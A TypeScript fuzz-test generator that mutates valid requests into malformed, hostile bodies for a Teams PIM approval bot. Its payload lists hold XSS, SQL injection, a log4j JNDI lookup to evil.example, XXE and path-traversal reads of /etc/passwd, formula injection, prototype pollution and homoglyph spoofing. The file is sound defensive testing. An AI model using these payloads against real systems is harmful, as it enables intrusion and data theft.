import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { mulberry32 } from '../../sim/scale-seed';

/**
 * A seeded generator of hostile request bodies for the bot's three HTTP entry points
 * (/api/pim/evaluate, /api/pim/events, /api/messages). Every body starts from a VALID shape (the PIM
 * custom-extension fixtures, an event per docs/events.schema.json, a Teams activity as the harness sends
 * it) and is then broken on purpose: each case applies at least one *breaking* mutation that the
 * documented contract forbids, on top of any number of *decorations* (hostile text, prototype keys,
 * unicode tricks) that do not by themselves make a body invalid. So every case has a known expected
 * answer and none is valid by accident.
 *
 * Case `i` of seed `s` depends only on (s, i): a failure names both, and `caseAt(world, s, i)`
 * rebuilds that one body. Set the seed with FUZZ_SEED (a number, or `random`).
 */

// --- PRNG ---------------------------------------------------------------------------------------

/** Mixes the run's seed and a case index into the case's own seed (murmur3's finaliser). */
function caseSeed(seed: number, index: number): number {
  let h = (seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b) >>> 0;
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
  return (h ^ (h >>> 16)) >>> 0;
}

export class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  /** An integer in [lo, hi]. */
  range(lo: number, hi: number): number {
    return lo + this.int(hi - lo + 1);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  /** Picks by weight: `[[weight, value], ...]`. */
  weighted<T>(items: ReadonlyArray<readonly [number, T]>): T {
    const total = items.reduce((s, [w]) => s + w, 0);
    let r = this.next() * total;
    for (const [w, v] of items) {
      r -= w;
      if (r < 0) return v;
    }
    return items[items.length - 1]![1];
  }
  hex(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(16)];
    return s;
  }
  uuid(): string {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${'89ab'[this.int(4)]}${this.hex(3)}-${this.hex(12)}`;
  }
}

/** The default seed keeps `npm test` reproducible; FUZZ_SEED=<n> replays a run, FUZZ_SEED=random explores. */
export const DEFAULT_SEED = 20260302;

export function seedFromEnv(env: NodeJS.ProcessEnv = process.env): number {
  const raw = env.FUZZ_SEED?.trim();
  if (!raw) return DEFAULT_SEED;
  if (raw === 'random') return Math.floor(Math.random() * 2 ** 32) >>> 0;
  const n = Number(raw);
  if (!Number.isInteger(n) || n < 0 || n >= 2 ** 32) throw new Error(`FUZZ_SEED must be an integer in [0, 2^32) or 'random', not '${raw}'`);
  return n;
}

// --- what a case is --------------------------------------------------------------------------

export type Endpoint = 'evaluate' | 'events' | 'messages';

/** How the request authenticates. The runner turns this into headers at send time (HMAC timestamps must be fresh). */
export type Auth =
  /** evaluate: a valid PIM token. */
  | { kind: 'pimToken' }
  /** evaluate: one of the pre-issued bad tokens, or a raw Authorization value (undefined: no header). */
  | { kind: 'badToken'; token: 'foreign' | 'expired' | 'audience' | 'caller' }
  | { kind: 'rawAuthorization'; value: string | undefined }
  /** events: a valid HMAC signature over exactly the bytes sent. */
  | { kind: 'hmac' }
  | { kind: 'badHmac'; variant: BadHmac }
  /** messages: demo mode runs without Bot Framework auth. */
  | { kind: 'none' };

export type BadHmac =
  | 'stale'
  | 'future'
  | 'wrongSecret'
  | 'otherBytes'
  | 'noSignature'
  | 'noTimestamp'
  | 'noHeaders'
  | 'badSignatureFormat'
  | 'badTimestampFormat'
  | 'bearerInstead';

/**
 * What the bot must answer.
 * - `http4xx`: an HTTP 4xx whose JSON body carries a message saying what is wrong.
 * - `invoke4xx`: a Teams invoke answered HTTP 200 with `{statusCode: 4xx, type: application/vnd.microsoft.error, value: {message}}`.
 * - `invokeRefusal`: HTTP 200 and an invoke body with statusCode 200 (a card, or a message under the card)
 *   whose text says why nothing was done: the bot's designed answer to a well-formed action by someone
 *   who may not take it (a non-approver, the requester, a closed request). `says` is what the text must contain;
 *   `noDecision`: the card shown to that user has no Approve or Deny button.
 */
export type Expect =
  | { kind: 'http4xx' }
  | { kind: 'invoke4xx' }
  | { kind: 'invokeRefusal'; says: string /** The card must offer no Approve/Deny to this user. */; noDecision?: boolean };

export interface FuzzCase {
  seed: number;
  index: number;
  endpoint: Endpoint;
  /** The breaking mutation's family, for the tally. */
  family: string;
  /** Every mutation applied, in words (shown when the case fails). */
  what: string[];
  body: Buffer;
  /** null: no Content-Type header at all. */
  contentType: string | null;
  auth: Auth;
  expect: Expect;
}

/** Real ids from the running bot, so forged actions point at real requests, drafts and users. */
export interface FuzzUser {
  objectId: string;
  teamsUserId: string;
  displayName: string;
}

export interface FuzzWorld {
  tenantId: string;
  channelId: string;
  /** Valid ids for the PIM bodies (a seeded requester and role); their validity is never what is broken. */
  principalId: string;
  roleDefinitionId: string;
  /** A pending request (approval_requests.id) with its requester, approvers and users who may not decide it. */
  pending: { id: string; roleName: string; requester: FuzzUser; approvers: FuzzUser[]; outsiders: FuzzUser[] };
  /** A pending request whose requester is also an approver of the role (self-approval). */
  selfPending: { id: string; requester: FuzzUser };
  /** A request already approved from the card. */
  decided: { id: string; requester: FuzzUser; approver: FuzzUser; otherApprover: FuzzUser };
  /** A user's open chat draft and tracked chat request; `intruder` is someone else. */
  chat: { owner: FuzzUser; draftId: string; chatRequestId: string; intruder: FuzzUser };
}

// --- hostile material ------------------------------------------------------------------------

/** Text that must stay text: markdown, HTML, mentions, card template syntax, log and header injection. */
export const HOSTILE_TEXT: readonly string[] = [
  '**Approved** by _security_ [click to approve](https://evil.example/phish) ![img](https://evil.example/x.png)',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  '<at>Megan Bowen</at> <at id="0">everyone</at> @channel',
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: card template and log4j syntax on purpose: it must arrive as plain text
  "${$root.requester.displayName} ${if(true, 'approved', 'denied')} {{DATE(2026-03-02T08:00:00Z, SHORT)}} ${json('{}')}",
  '$data: ${$index} $when: ${true} ${=1+1} ${string(requestId)}',
  '<iframe src="javascript:alert(1)"></iframe><a href="javascript:alert(1)">x</a>',
  '```json\n{"evaluationOutcome":"AutoApproved"}\n```\n> quoted\n# Heading\n- [x] done',
  '\r\nX-Injected: yes\r\nSet-Cookie: a=b\r\n\r\n',
  '\n{"level":60,"msg":"forged log line","evaluationOutcome":"AutoApproved"}\n',
  "'); DROP TABLE evaluations; --",
  '" OR "1"="1',
  '../../../../etc/passwd\\..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a} %s%s%s%n %x',
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: card template and log4j syntax on purpose
  '\u001b[31mred\u001b[0m\u0007\u0008',
  '=HYPERLINK("https://evil.example","click") +cmd|\' /C calc\'!A0',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '{{constructor.constructor("return process")()}}',
  'javascript:alert(1)//',
];

/** Unicode that looks like something else or is not text at all. */
export const UNICODE_TRICKS: readonly string[] = [
  'evil\u202egnp.exe', // right-to-left override
  '\u2066approved\u2069\u2067denied\u2069\u202d\u202c', // bidi isolates and overrides
  'ad\u200bmin\u200c\u200d\u2060\ufeff', // zero-width characters
  'nul\u0000byte\u0000',
  'lone \ud800 high and \udfff low surrogates \udbff',
  '\u0410lex W\u0456lber', // Cyrillic A and i: "Alex Wilber"
  'M\u0435g\u0430n B\u043ew\u0435n', // homoglyph "Megan Bowen"
  'Z\u0337\u0322\u0349a\u0336\u0320\u0350l\u0338\u0330\u0308g\u0335\u0331\u033fo\u0334\u032b\u035d', // combining marks
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff3\ufe0f\u200d\ud83c\udf08', // ZWJ emoji
  '\uff21\uff44\uff4d\uff49\uff4e \uff11\uff12\uff13', // full-width
  'e\u0301 vs \u00e9, \ufb01 ligature, \u212b angstrom', // normalisation pairs
  '\u00a0\u2028line\u2029para\u0085next\u000b\u000c',
  '\ufffd\uffff\ufffe\u{10ffff}',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 mixed \u05e2\u05d1\u05e8\u05d9\u05ea',
];

/** Byte sequences that are not UTF-8. */
const BAD_UTF8: readonly number[][] = [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xc3], [0xe2, 0x82], [0xfe, 0xfe, 0xff, 0xff]];

/** Object keys with a special meaning in JavaScript. */
const PROTO_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'toJSON',
  'then',
  '__defineGetter__',
  'isPrototypeOf',
];

function hostileText(rng: Rng): string {
  const n = rng.range(1, 3);
  const parts: string[] = [];
  for (let i = 0; i < n; i++) parts.push(rng.chance(0.5) ? rng.pick(HOSTILE_TEXT) : rng.pick(UNICODE_TRICKS));
  return parts.join(' ');
}

/** Hostile text that is at most `max` UTF-16 units, so it stays valid where it is put. */
function hostileTextWithin(rng: Rng, max: number): string {
  for (let i = 0; i < 8; i++) {
    const t = hostileText(rng);
    if (t.length >= 1 && t.length <= max) return t;
  }
  return rng.pick(UNICODE_TRICKS.filter((t) => t.length <= max)) ?? 'x';
}

/** A string of exactly `length` UTF-16 units made of hostile material. */
function longText(rng: Rng, length: number): string {
  const unit = rng.weighted<string>([
    [3, 'A'],
    [2, rng.pick(HOSTILE_TEXT)],
    [2, rng.pick(UNICODE_TRICKS)],
    [1, '\ud83d\ude00'],
    [1, '\u200b'],
    [1, '\\"'],
  ]);
  let s = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  // Never end on half a surrogate pair by accident of the cut: that is a separate mutation.
  if (/[\ud800-\udbff]$/.test(s)) s = `${s.slice(0, -1)}x`;
  return s;
}

/**
 * Values of the wrong JSON type for a field: for a string field anything but a string, for an object
 * field anything but an object (null only where null is not allowed).
 */
function wrongType(rng: Rng, nullAllowed: boolean, objectField = false): { value: unknown; says: string } {
  const options: Array<[number, () => { value: unknown; says: string }]> = [
    [2, () => ({ value: rng.pick([0, -1, 42, 1e308, -0.5, 2 ** 53 + 1]), says: 'a number' })],
    [1, () => ({ value: rng.chance(0.5), says: 'a boolean' })],
    [2, () => ({ value: rng.pick([[], ['x'], [1, 2, 3], [null]]), says: 'an array' })],
    [1, () => ({ value: rawSplice(nestedText(rng, rng.range(500, 5000), objectField)), says: 'deeply nested arrays/objects' })],
  ];
  if (objectField) options.push([1, () => ({ value: rng.pick(['{"x":1}', 'PT4H', '']), says: 'a string' })]);
  else options.push([2, () => ({ value: rng.pick<unknown>([{}, { value: 'x' }, { $ne: null }, { toString: 'x' }]), says: 'an object' })]);
  if (!nullAllowed) options.push([1, () => ({ value: null, says: 'null' })]);
  return rng.weighted(options)();
}

// --- raw splices: text that JSON.stringify cannot produce ------------------------------------

const RAW = '\u0000fuzz-raw:';
let rawStore: string[] = [];
/** A placeholder value; after JSON.stringify its quoted form is replaced by `text` verbatim. */
function rawSplice(text: string): string {
  rawStore.push(text);
  return `${RAW}${rawStore.length - 1}`;
}

/** Deep nesting as JSON text (building it as a value would overflow JSON.stringify's stack); `arrays`: the outermost value is an array. */
function nestedText(rng: Rng, depth: number, arrays = false): string {
  switch (arrays ? rng.pick([0, 2]) : rng.int(4)) {
    case 0:
      return '['.repeat(depth) + ']'.repeat(depth);
    case 1:
      return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    case 2:
      return `${'[{"__proto__":'.repeat(depth)}null${'}]'.repeat(depth)}`;
    default:
      return `${'{"x":['.repeat(depth)}"deep"${']}'.repeat(depth)}`;
  }
}

const BAD_LITERALS: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  'undefined',
  "'single quoted'",
  '0x1F',
  '01',
  '.5',
  '+1',
  '1.',
  'tru',
  'nul',
  '"unterminated',
  '"bad \\x41 escape"',
  '"raw\u0001control"',
  '[1,]',
  '{"a":1,}',
  '/* comment */ 1',
  '// comment\n1',
  '{a:1}',
  '1 2',
  '"\\u12"',
];

/** JSON.stringify, then the raw splices put in and byte-level splices turned into bytes. */
function serialise(value: unknown, byteSplices: Map<string, Buffer> = utf8Splices()): Buffer {
  let text = JSON.stringify(value);
  text = text.replace(/"\\u0000fuzz-raw:(\d+)"/g, (_m, i: string) => rawStore[Number(i)]!);
  rawStore = [];
  return toBytes(text, byteSplices);
}

function toBytes(text: string, byteSplices: Map<string, Buffer>): Buffer {
  let parts: Array<string | Buffer> = [text];
  for (const [marker, bytes] of byteSplices) {
    parts = parts.flatMap((p) => (typeof p === 'string' ? p.split(marker).flatMap((s, i) => (i === 0 ? [s] : [bytes, s])) : [p]));
  }
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : p)));
}

// --- paths in plain JSON values ----------------------------------------------------------------

type Json = Record<string, unknown>;
type Path = readonly string[];

function getAt(obj: unknown, path: Path): unknown {
  let cur: unknown = obj;
  for (const k of path) {
    if (typeof cur !== 'object' || cur === null) return undefined;
    cur = Object.hasOwn(cur, k) ? (cur as Json)[k] : undefined;
  }
  return cur;
}

/** Sets as an own, enumerable property (so `__proto__` is a key, as JSON.parse makes it), creating parents. */
function setAt(obj: Json, path: Path, value: unknown): void {
  let cur: Json = obj;
  for (const k of path.slice(0, -1)) {
    let next = Object.hasOwn(cur, k) ? cur[k] : undefined;
    if (typeof next !== 'object' || next === null || Array.isArray(next)) {
      next = {};
      define(cur, k, next);
    }
    cur = next as Json;
  }
  define(cur, path[path.length - 1]!, value);
}

function define(obj: Json, key: string, value: unknown): void {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
}

function deleteAt(obj: Json, path: Path): void {
  const parent = getAt(obj, path.slice(0, -1));
  if (typeof parent === 'object' && parent !== null) delete (parent as Json)[path[path.length - 1]!];
}

const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;

// --- the PIM request shapes ----------------------------------------------------------------------

const FIXTURES = join(__dirname, '../fixtures/pim-extension');
const fixture = (name: string): Json => JSON.parse(readFileSync(join(FIXTURES, name), 'utf8')) as Json;
const BASES = { entraRole: fixture('request-entra-role.json'), group: fixture('request-group.json'), azureResource: fixture('request-azure-resource.json') };
type Shape = keyof typeof BASES;

const ENTRA_TYPE = '#microsoft.graph.unifiedRoleAssignmentScheduleRequest';
const GROUP_TYPE = '#microsoft.graph.privilegedAccessGroupAssignmentScheduleRequest';

/** What the documented contract allows in a field. */
type FieldKind =
  | { t: 'guid' }
  | { t: 'string'; max: number }
  | { t: 'enum'; values: readonly string[] }
  | { t: 'literal'; value: string }
  | { t: 'object' }
  | { t: 'armRole' }
  | { t: 'armScope' };

interface Field {
  path: Path;
  kind: FieldKind;
  required: boolean;
  nullable: boolean;
  /** Free text a person typed (justification, ticket): where hostile text goes as a decoration. */
  userText?: boolean;
}

function commonPimFields(prefix: Path): Field[] {
  const p = (...k: string[]) => [...prefix, ...k];
  return [
    { path: p('justification'), kind: { t: 'string', max: 4000 }, required: false, nullable: true, userText: true },
    { path: p('scheduleInfo'), kind: { t: 'object' }, required: false, nullable: true },
    { path: p('scheduleInfo', 'startDateTime'), kind: { t: 'string', max: 64 }, required: false, nullable: true },
    { path: p('scheduleInfo', 'expiration'), kind: { t: 'object' }, required: false, nullable: true },
    { path: p('scheduleInfo', 'expiration', 'type'), kind: { t: 'string', max: 64 }, required: false, nullable: true },
    { path: p('scheduleInfo', 'expiration', 'duration'), kind: { t: 'string', max: 64 }, required: false, nullable: true },
    { path: p('ticketInfo'), kind: { t: 'object' }, required: false, nullable: true },
    { path: p('ticketInfo', 'ticketNumber'), kind: { t: 'string', max: 256 }, required: false, nullable: true, userText: true },
    { path: p('ticketInfo', 'ticketSystem'), kind: { t: 'string', max: 256 }, required: false, nullable: true, userText: true },
  ];
}

const PIM_FIELDS: Record<Shape, Field[]> = {
  entraRole: [
    { path: ['@odata.type'], kind: { t: 'literal', value: ENTRA_TYPE }, required: false, nullable: false },
    { path: ['id'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['action'], kind: { t: 'string', max: 64 }, required: true, nullable: false },
    { path: ['principalId'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['roleDefinitionId'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['directoryScopeId'], kind: { t: 'string', max: 1024 }, required: false, nullable: true },
    { path: ['status'], kind: { t: 'string', max: 64 }, required: false, nullable: true },
    ...commonPimFields([]),
  ],
  group: [
    { path: ['@odata.type'], kind: { t: 'literal', value: GROUP_TYPE }, required: false, nullable: false },
    { path: ['id'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['action'], kind: { t: 'string', max: 64 }, required: true, nullable: false },
    { path: ['principalId'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['accessId'], kind: { t: 'enum', values: ['member', 'owner'] }, required: true, nullable: false },
    { path: ['groupId'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['status'], kind: { t: 'string', max: 64 }, required: false, nullable: true },
    ...commonPimFields([]),
  ],
  azureResource: [
    { path: ['properties'], kind: { t: 'object' }, required: true, nullable: false },
    { path: ['properties', 'principalId'], kind: { t: 'guid' }, required: true, nullable: false },
    { path: ['properties', 'principalType'], kind: { t: 'string', max: 64 }, required: false, nullable: false },
    { path: ['properties', 'requestType'], kind: { t: 'string', max: 64 }, required: true, nullable: false },
    { path: ['properties', 'roleDefinitionId'], kind: { t: 'armRole' }, required: true, nullable: false },
    { path: ['properties', 'scope'], kind: { t: 'armScope' }, required: true, nullable: false },
    ...commonPimFields(['properties']),
  ],
};

/** Keys that decide which shape a body is read as; decorations never add them. */
const SHAPE_KEYS = new Set(['@odata.type', 'roleDefinitionId', 'groupId', 'properties']);

function pimBase(rng: Rng, world: FuzzWorld, shape: Shape): Json {
  const b = clone(BASES[shape]);
  if (shape === 'entraRole') {
    b.id = rng.uuid();
    b.principalId = world.principalId;
    b.roleDefinitionId = world.roleDefinitionId;
  } else if (shape === 'group') {
    b.id = rng.uuid();
  } else {
    // The ARM shape has no id: a fresh justification makes each body a different request.
    (b.properties as Json).justification = `Load test ${rng.hex(8)} on the staging scale set`;
  }
  return b;
}

/** Invalid strings for a GUID field: near misses, numbers as strings, unicode tricks, injection. */
function badGuid(rng: Rng, real: string): { value: unknown; says: string } {
  const at = rng.range(1, real.length - 1);
  const variants: Array<() => { value: unknown; says: string }> = [
    () => ({
      value: rng.pick(['', ' ', 'not-a-guid', '12345', '0', 'NaN', 'Infinity', '-0', '1e309', 'null', 'undefined', 'true', '0x1F', '[object Object]']),
      says: 'a NaN-like or number-as-string',
    }),
    () => ({
      value: real.replace(/[a-f]/, (c) => String.fromCharCode(c.charCodeAt(0) === 0x61 ? 0x0430 : 0x0435)).replace(/^([^\u0430\u0435]*)$/, '\u0430$1'),
      says: 'a GUID with a Cyrillic homoglyph',
    }),
    () => ({ value: `${real.slice(0, at)}\u200b${real.slice(at)}`, says: 'a GUID with a zero-width space' }),
    () => ({ value: `\u202e${real}`, says: 'a GUID behind a right-to-left override' }),
    () => ({ value: `${real}\u0000`, says: 'a GUID with a trailing NUL' }),
    () => ({ value: `${real}\n`, says: 'a GUID with a trailing newline' }),
    () => ({ value: `${real.slice(0, at)}\ud800${real.slice(at + 1)}`, says: 'a GUID with a lone surrogate' }),
    () => ({ value: `{${real}}`, says: 'a GUID in braces' }),
    () => ({ value: real.replace(/-/g, ''), says: 'a GUID without dashes' }),
    () => ({ value: `${real} `, says: 'a GUID with a trailing space' }),
    () => ({ value: real.slice(0, -1), says: 'a GUID one digit short' }),
    () => ({ value: `${real}0`, says: 'a GUID one digit long' }),
    () => ({ value: real.replace(/[0-9a-f]/, 'g'), says: 'a GUID with a non-hex digit' }),
    () => ({ value: `'; DROP TABLE approval_requests; --`, says: 'SQL in a GUID' }),
    () => ({ value: `../${real}`, says: 'a path in a GUID' }),
    () => ({ value: real.replace(/-/g, '\u2010'), says: 'a GUID with Unicode hyphens' }),
    () => ({ value: real.replace(/[0-9]/, (d) => String.fromCharCode(0xff10 + Number(d))), says: 'a GUID with a full-width digit' }),
    () => ({ value: rawSplice(`"${real.slice(0, at)}\u0000INVALID_UTF8\u0000${real.slice(at)}"`), says: 'a GUID with bytes that are not UTF-8' }),
  ];
  return rng.pick(variants)();
}

function badArmRole(rng: Rng, real: string): { value: unknown; says: string } {
  return rng.pick<() => { value: unknown; says: string }>([
    () => ({ value: real.replace('Microsoft.Authorization', 'Microsoft.Authorizati\u043en'), says: 'an ARM role id with a homoglyph' }),
    () => ({ value: real.replace('/providers/', '/providers/../'), says: 'an ARM role id with another provider path' }),
    () => ({ value: real.slice(1), says: 'an ARM role id without the leading slash' }),
    () => ({ value: real.slice(0, -1), says: 'an ARM role id one digit short' }),
    () => ({ value: `${real}\n`, says: 'an ARM role id with a newline' }),
    () => ({ value: real.replace(/roleDefinitions\/.*/, 'roleDefinitions/not-a-guid-at-all-not-a-guid-at-all-xx'), says: 'an ARM role id without a GUID' }),
    () => ({ value: `/subscriptions/x/providers/Microsoft.Authorization/roleDefinitions/${'g'.repeat(36)}`, says: 'an ARM role id with non-hex digits' }),
    () => ({ value: real.split('/').pop(), says: 'a bare GUID where an ARM path belongs' }),
  ])();
}

function badScope(rng: Rng, real: string): { value: unknown; says: string } {
  return rng.pick<() => { value: unknown; says: string }>([
    () => ({ value: '', says: 'an empty scope' }),
    () => ({ value: real.slice(1), says: 'a scope without the leading slash' }),
    () => ({ value: ` ${real}`, says: 'a scope with a leading space' }),
    () => ({ value: `\u202e${real}`, says: 'a scope behind a right-to-left override' }),
    () => ({ value: `/${longText(rng, rng.range(1025, 3000))}`, says: 'a scope over 1024 characters' }),
  ])();
}

/** A breaking mutation of one PIM field: the value the contract forbids there, or its absence. */
function breakPimField(rng: Rng, body: Json, field: Field): string {
  const current = getAt(body, field.path);
  const name = field.path.join('.');
  const choices: Array<[number, () => string]> = [
    [
      3,
      () => {
        const w = wrongType(rng, field.nullable, field.kind.t === 'object');
        setAt(body, field.path, w.value);
        return `${name} = ${w.says}`;
      },
    ],
  ];
  if (field.required) {
    choices.push([
      2,
      () => {
        deleteAt(body, field.path);
        return `${name} dropped`;
      },
    ]);
  }
  const k = field.kind;
  if (k.t === 'guid')
    choices.push([
      5,
      () => {
        const b = badGuid(rng, typeof current === 'string' ? current : '20000000-0000-4000-8000-000000000002');
        setAt(body, field.path, b.value);
        return `${name} = ${b.says}`;
      },
    ]);
  if (k.t === 'string')
    choices.push([
      3,
      () => {
        setAt(body, field.path, longText(rng, rng.range(k.max + 1, Math.min(k.max * 4, 50_000))));
        return `${name} longer than ${k.max}`;
      },
    ]);
  if (k.t === 'enum')
    choices.push([
      4,
      () => {
        const v = rng.pick(['Member', 'OWNER', 'admin', 'member ', 'owner\u200b', 'm\u0435mber', '', 'member\u0000', 'eligible']);
        setAt(body, field.path, v);
        return `${name} = '${v}' (not ${k.values.join('/')})`;
      },
    ]);
  if (k.t === 'literal')
    choices.push([
      4,
      () => {
        const v = rng.pick([
          `${k.value} `,
          k.value.toLowerCase(),
          k.value.replace('graph', 'gr\u0430ph'),
          k.value.replace('#', ''),
          '#microsoft.graph.user',
          `${k.value}\u0000`,
          '',
        ]);
        setAt(body, field.path, v);
        return `${name} = a near miss of ${k.value}`;
      },
    ]);
  if (k.t === 'armRole')
    choices.push([
      4,
      () => {
        const b = badArmRole(rng, String(current));
        setAt(body, field.path, b.value);
        return `${name} = ${b.says}`;
      },
    ]);
  if (k.t === 'armScope')
    choices.push([
      4,
      () => {
        const b = badScope(rng, String(current));
        setAt(body, field.path, b.value);
        return `${name} = ${b.says}`;
      },
    ]);
  if (k.t === 'object')
    choices.push([
      2,
      () => {
        const v = rng.pick<unknown>(['{"x":1}', 'PT4H', 42, [current], true]);
        setAt(body, field.path, v);
        return `${name} = not an object`;
      },
    ]);
  return rng.weighted(choices)();
}

/** Decorations: hostile text in user fields, prototype keys, extra keys. None of them makes a body invalid. */
function decoratePim(rng: Rng, body: Json, shape: Shape, what: string[]): void {
  const fields = PIM_FIELDS[shape];
  const n = rng.range(0, 3);
  for (let i = 0; i < n; i++) {
    switch (rng.int(4)) {
      case 0:
      case 1: {
        const f = rng.pick(fields.filter((x) => x.userText));
        const max = f.kind.t === 'string' ? f.kind.max : 64;
        setAt(body, f.path, hostileTextWithin(rng, max));
        what.push(`${f.path.join('.')} = hostile text`);
        break;
      }
      case 2: {
        const key = rng.pick(PROTO_KEYS);
        const where: Path =
          shape === 'azureResource' && rng.chance(0.5) ? ['properties'] : rng.chance(0.3) ? [shape === 'azureResource' ? 'properties' : 'scheduleInfo'] : [];
        const target = where.length ? getAt(body, where) : body;
        if (typeof target === 'object' && target !== null && !Array.isArray(target)) {
          define(target as Json, key, rng.pick([{ polluted: 'yes', isAdmin: true }, { prototype: { polluted: 'yes' } }, 'polluted', 1, null]));
          what.push(`+ key '${key}'${where.length ? ` in ${where.join('.')}` : ''}`);
        }
        break;
      }
      default: {
        const key = `x-${rng.pick(['extra', 'evaluationOutcome', 'approved', 'isAdmin', hostileTextWithin(rng, 40)])}`;
        if (!SHAPE_KEYS.has(key)) {
          define(body, key, rng.pick<unknown>([true, 'AutoApproved', hostileTextWithin(rng, 200), rawSplice(nestedText(rng, rng.range(10, 2000)))]));
          what.push(`+ extra key '${key.slice(0, 30)}'`);
        }
      }
    }
  }
}

/**
 * A broken PIM body as a value (before serialisation), or a reason it is broken at the top level.
 * `root` is where the request sits (an event nests it).
 */
function brokenPimValue(rng: Rng, world: FuzzWorld, what: string[]): { value: unknown; family: string } {
  const shape = rng.pick<Shape>(['entraRole', 'entraRole', 'group', 'azureResource']);
  const body = pimBase(rng, world, shape);
  what.push(`${shape} request`);
  decoratePim(rng, body, shape, what);
  const family = rng.weighted<string>([
    [10, 'field'],
    [2, 'two-fields'],
    [2, 'not-an-object'],
    [1, 'unknown-shape'],
    [1, 'mixed-shape'],
  ]);
  switch (family) {
    case 'field':
      what.push(breakPimField(rng, body, rng.pick(PIM_FIELDS[shape])));
      return { value: body, family: 'field' };
    case 'two-fields':
      what.push(breakPimField(rng, body, rng.pick(PIM_FIELDS[shape])));
      what.push(breakPimField(rng, body, rng.pick(PIM_FIELDS[shape])));
      return { value: body, family: 'field' };
    case 'not-an-object': {
      const v = rng.pick<unknown>([[body], 'a string', JSON.stringify(body), 42, null, true, [], [1, 2]]);
      what.push(`the request is ${Array.isArray(v) ? 'an array' : v === null ? 'null' : typeof v}`);
      return { value: v, family: 'not-an-object' };
    }
    case 'unknown-shape': {
      for (const k of SHAPE_KEYS) delete body[k];
      what.push('no shape key (@odata.type, roleDefinitionId, groupId, properties)');
      return { value: body, family: 'unknown-shape' };
    }
    default: {
      if (shape === 'azureResource') {
        define(body, '@odata.type', ENTRA_TYPE);
        define(body, 'properties', rng.pick<unknown>([null, 'x', [], { principalId: world.principalId }]));
      } else {
        define(body, 'properties', rng.pick<unknown>([{}, { principalId: world.principalId }, []]));
      }
      what.push('two shapes mixed (properties with a broken ARM body)');
      return { value: body, family: 'mixed-shape' };
    }
  }
}

// --- serialisation-level breakage (any endpoint) -----------------------------------------------

/** Text that is not JSON, built from a valid body's JSON text. */
function invalidJson(rng: Rng, valid: string, what: string[]): Buffer {
  const v = rng.int(12);
  switch (v) {
    case 0: {
      const cut = rng.range(0, valid.length - 1);
      what.push(`JSON truncated at ${cut} of ${valid.length}`);
      return Buffer.from(valid.slice(0, cut), 'utf8');
    }
    case 1:
      what.push('trailing comma');
      return Buffer.from(`${valid.slice(0, -1)},}`, 'utf8');
    case 2: {
      const lit = rng.pick(BAD_LITERALS);
      what.push(`a value that is not JSON: ${JSON.stringify(lit)}`);
      return Buffer.from(`${valid.slice(0, -1)},"x":${lit}}`, 'utf8');
    }
    case 3:
      what.push('single quotes instead of double');
      return Buffer.from(valid.replace(/"/g, "'"), 'utf8');
    case 4:
      what.push('a byte-order mark before the JSON');
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(valid, 'utf8')]);
    case 5:
      what.push('two JSON documents');
      return Buffer.from(`${valid}${valid}`, 'utf8');
    case 6: {
      const bad = Buffer.from(rng.pick(BAD_UTF8));
      what.push('a structural quote replaced by bytes that are not UTF-8');
      const at = valid.indexOf('"', rng.int(valid.length));
      const i = Math.max(at, 0);
      return Buffer.concat([Buffer.from(valid.slice(0, i), 'utf8'), bad, Buffer.from(valid.slice(i + 1), 'utf8')]);
    }
    case 7:
      what.push('an empty body');
      return Buffer.alloc(0);
    case 8:
      what.push('whitespace only');
      return Buffer.from(rng.pick([' ', '\n\n', '\t \r\n', '\u00a0']), 'utf8');
    case 9:
      what.push('unquoted keys');
      return Buffer.from(valid.replace(/"([A-Za-z@.]+)":/g, '$1:'), 'utf8');
    case 10:
      what.push('a raw control character inside a string');
      return Buffer.from(valid.replace(/":"/, '":"\u0001\u0000'), 'utf8');
    default:
      what.push('a comment in the JSON');
      return Buffer.from(`/* ${hostileText(rng)} */${valid}`, 'utf8');
  }
}

/** Content types the JSON endpoints must refuse (415), and ones that must be read as JSON. */
const BAD_CONTENT_TYPES: readonly (string | null)[] = [
  null,
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz',
  'application/xml',
  'text/html',
  'application/jsonp',
  'application/json-patch+json',
  'application/javascript',
  'application/octet-stream',
  '*/*',
  'json',
  'application',
  'application/vnd.api+json',
  'text/json',
];
